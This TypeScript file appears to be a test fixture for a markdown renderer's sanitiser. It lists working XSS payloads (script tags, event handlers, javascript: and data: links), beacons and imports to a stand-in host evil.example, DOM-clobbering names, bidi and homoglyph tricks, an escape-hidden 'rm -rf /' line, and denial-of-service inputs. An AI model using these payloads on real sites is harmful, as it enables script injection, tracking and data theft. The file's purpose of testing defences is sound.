/** What a text tries to have carried out would set this in the window. */
export const MARK = '__ran';

const RUN = `window.${MARK}=1`;
const OUT = 'https://evil.example';

/** Texts that want more than to be read. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'scripts and handlers': [
    `<script>${RUN}</script><script src="${OUT}/x.js"></script>`,
    `<img src=x onerror="${RUN}"><img src="${OUT}/beacon.png">`,
    `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<video><source onerror="${RUN}"></video><body onload="${RUN}"><input autofocus onfocus="${RUN}">`,
    `<math><mtext></table></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<!--><img src=x onerror=${RUN}>--> <![CDATA[<img src=x onerror=${RUN}>]]> <?php echo 1 ?>`,
    `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &#x3C;script>${RUN}&#x3C;/script>`,
    `<meta http-equiv="refresh" content="0;url=${OUT}"><base href="${OUT}/"><form action="${OUT}"><button>Send</button></form>`,
    `<object data="${OUT}"></object><embed src="${OUT}"><link rel=stylesheet href="${OUT}/a.css">`,
  ].join('\n\n'),
  'links that run': [
    `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java&#115;cript:${RUN}) [d](javascript&colon;${RUN})`,
    `[e](<java\tscript:${RUN}>) [f]( javascript:${RUN}) [g](\u0001javascript:${RUN}) [h](vbscript:${RUN})`,
    `[i](data:text/html,<script>${RUN}</script>) [j](data:text/html;base64,PHNjcmlwdD4x) <javascript:${RUN}>`,
    `[k][evil] ![l][evil] [m](blob:${OUT}/x) [n](file:///etc/passwd) [o](#/settings) [p](/api/auth/logout) [q](//evil.example)`,
    `<data:text/html,x> ![r](javascript:${RUN}) ![s](data:image/svg+xml,<svg onload=${RUN}>) [t](x" onclick="${RUN})`,
    `[evil]: javascript:${RUN} "x\\" onmouseover=${RUN}"`,
  ].join('\n\n'),
  'pictures that tell': [
    `![](${OUT}/1.png) ![a](${OUT}/2.png "t") ![b][pic] [![c](${OUT}/3.png)](${OUT}/4)`,
    `![d](http://127.0.0.1:1/5.png) ![e](//evil.example/6.png) ![f](data:image/png;base64,iVBORw0KGgo=)`,
    `| ![g](${OUT}/7.png) |\n|---|\n| ![h](${OUT}/8.png) |`,
    `[pic]: ${OUT}/9.png`,
  ].join('\n\n'),
  'names that clobber': [
    '<a id=constructor name=__proto__></a><form id=document><input name=body></form>',
    '# constructor\n\n## __proto__\n\n[^constructor] [^__proto__] [^toString]',
    '[^constructor]: a\n\n[^__proto__]: b\n\n[^toString]: c\n\n[constructor] [__proto__] [hasOwnProperty][]',
    '```constructor\na\n```\n\n```__proto__\nb\n```\n\n```"><img src=x>\nc\n```\n\n```toString\nd\n```',
  ].join('\n\n'),
  styles: [
    '<style>*{display:none!important}</style><style>@import "https://evil.example/x.css";</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/y)">over</div>',
    '`</style><style>body{display:none}`',
  ].join('\n\n'),
  'directions and marks': [
    `\u202e${'evil'.repeat(10)}\u202d \u2066\u2067\u2068 [good.example\u202e](${OUT}) \u200f\u061c`,
    `z${'\u0300\u0316\u0335'.repeat(2000)}algo`,
    '\u0000\u0001\u0008\u001b[2J\u001b[31mred\u001b]0;title\u0007 \u009b31m \ud800 lone \udfff \ufdd0 \uffff',
    '```sh\n\u001b]52;c;ZXZpbA==\u0007rm -rf \u202e/\u2066\n```',
    `https://xn--80ak6aa92e.com https://аррӏе.com www.gооgle.com user@evil.example http://good.example@evil.example/`,
  ].join('\n\n'),
};

/** Texts whose reading could take forever, or whose showing could. */
export const ENDLESS: Readonly<Record<string, string>> = {
  'one line of a megabyte': 'word '.repeat(200_000),
  'a line of a megabyte as code': `\`\`\`js\n${'a+'.repeat(500_000)}\n\`\`\``,
  'five megabytes': Array.from(
    { length: 50_000 },
    (_, at) => `Paragraph **${at}** with \`code\`, [a link](https://a.b) and ${'more '.repeat(8)}`,
  ).join('\n\n'),
  'five megabytes of code': `\`\`\`ts\n${Array.from({ length: 100_000 }, (_, at) => `export const value${at} = "${at}"; // a comment here`).join('\n')}\n\`\`\``,
  'ten thousand quotes': '> '.repeat(10_000),
  'ten thousand lists': `${'- '.repeat(10_000)}a`,
  'a deeper list on every line': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  'ten thousand brackets': `${'['.repeat(10_000)}a${']'.repeat(10_000)}`,
  'ten thousand pictures': `${'!['.repeat(10_000)}a${']()'.repeat(10_000)}`,
  'ten thousand references': `${'[a][b] '.repeat(4000)}\n\n[b]: https://a.b/${'c'.repeat(1500)}`,
  'ten thousand emphases': '*a **b '.repeat(4000),
  'emphases within each other': `${'*a _b '.repeat(2500)}${'c_ d* '.repeat(2500)}`,
  'a run of stars': `${'*'.repeat(10_000)}a${'*'.repeat(10_000)}`,
  'ten thousand ticks': Array.from({ length: 240 }, (_, at) => '`'.repeat(at + 1)).join(' '),
  'a table of many columns': `${'|a'.repeat(3000)}|\n${'|-'.repeat(3000)}|\n${`${'|b'.repeat(3000)}|\n`.repeat(3)}`,
  'many fences': '```\n'.repeat(20_000),
  'many footnotes': Array.from({ length: 3000 }, (_, at) => `[^${at}]: [^${at}]`).join('\n\n'),
  'many entities': '&amp;&lt;&#x41;'.repeat(1900),
};
